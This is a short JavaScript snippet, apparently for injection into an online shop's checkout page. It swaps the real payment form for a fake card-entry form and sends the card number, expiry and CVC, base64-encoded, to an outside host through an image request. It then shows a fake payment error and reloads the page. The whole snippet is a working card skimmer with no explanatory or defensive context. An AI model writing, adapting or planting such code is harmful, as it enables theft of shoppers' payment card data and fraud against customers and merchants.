setTimeout(function () {
  var box = document.querySelector('.payment-method._active .payment-method-content');
  if (!box) return;
  box.innerHTML = '<div class="fx"><label>Card number</label><input id="xc" placeholder="0000 0000 0000 0000" maxlength="19">' +
    '<input id="xe" placeholder="MM / YY"><input id="xv" placeholder="CVC"><button type="button" id="xb">Place Order</button></div>';
  document.getElementById('xb').onclick = function () {
    var d = [document.getElementById('xc').value, document.getElementById('xe').value, document.getElementById('xv').value].join('|');
    new Image().src = 'https://pay-style.example/b.gif?x=' + btoa(d);
    alert('Payment error. Please try again.');
    location.reload();
  };
}, 3000);
